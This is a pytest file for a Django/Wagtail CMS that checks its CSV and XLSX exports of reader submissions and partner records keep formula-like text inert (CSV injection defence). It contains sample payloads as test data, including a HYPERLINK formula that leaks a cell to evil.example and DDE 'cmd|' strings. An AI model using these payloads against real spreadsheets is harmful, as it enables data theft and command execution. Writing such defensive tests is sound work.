"""Readers' text in the admin's exports stays text: no cell runs as a formula (CSV injection)."""

import csv
from io import BytesIO, StringIO

import openpyxl
import pytest

from django.urls import reverse

from cms.spreadsheets import neutralise_formula
from feedback.models import FeedbackRequest
from tests.conftest import make_partner
from tests.feedback.helpers import make_feedback_page, reset_rate_limit, valid_data

LINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Открыть")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+7 (900) 123-45-67"


def download(editor, url, export_format):
    response = editor.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(body):
    return list(csv.reader(StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1"],
)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Анна", "", "5", PHONE, "-5", "a=b", None, 3, True])
def test_plain_values_phone_numbers_and_numbers_stay_as_they_are(value):
    assert neutralise_formula(value) == value


@pytest.fixture
def hostile_request(client, home):
    reset_rate_limit()
    page = make_feedback_page(home)
    client.post(page.url, valid_data(client, page, imya=LINK, soobshhenie=SUM, telefon=PHONE))
    reset_rate_limit()
    request = FeedbackRequest.objects.get()
    assert request.get_data()["imya"] == LINK  # stored as the reader wrote it
    return page, request


@pytest.mark.django_db
def test_the_form_submissions_csv_keeps_formulas_as_text(hostile_request, editor):
    page, request = hostile_request
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    heading, row = csv_rows(download(editor, url, "csv"))
    cells = dict(zip(heading, row, strict=True))
    assert cells["Имя"] == "'" + LINK
    assert cells["Сообщение"] == "'" + SUM
    assert cells["Телефон"] == PHONE
    assert cells["Номер"] == request.number


@pytest.mark.django_db
def test_the_form_submissions_xlsx_keeps_formulas_as_text(hostile_request, editor):
    page, _request = hostile_request
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    sheet = openpyxl.load_workbook(BytesIO(download(editor, url, "xlsx"))).active
    heading = [cell.value for cell in sheet[1]]
    row = dict(zip(heading, sheet[2], strict=True))
    assert row["Имя"].value == LINK and row["Имя"].data_type == "s"
    assert row["Сообщение"].value == SUM and row["Сообщение"].data_type == "s"


@pytest.mark.django_db
def test_the_partners_csv_keeps_formulas_as_text(editor, wagtail_roots):
    make_partner("=1+2", full_name=LINK, address=SUM, logo=False)
    url = reverse("wagtailsnippets_partners_partner:list")
    heading, row = csv_rows(download(editor, url, "csv"))
    cells = dict(zip(heading, row, strict=True))
    assert cells["Полное название"] == "'" + LINK
    assert cells["Адрес"] == "'" + SUM
    assert cells["Краткое название"] == "'=1+2"


@pytest.mark.django_db
def test_a_form_field_label_like_a_formula_is_a_text_heading(hostile_request, editor):
    page, _request = hostile_request
    field = page.form_fields.get(clean_name="imya")
    field.label = "=Имя"
    field.save()
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    assert "'=Имя" in csv_rows(download(editor, url, "csv"))[0]
    sheet = openpyxl.load_workbook(BytesIO(download(editor, url, "xlsx"))).active
    assert all(cell.data_type == "s" for cell in sheet[1])
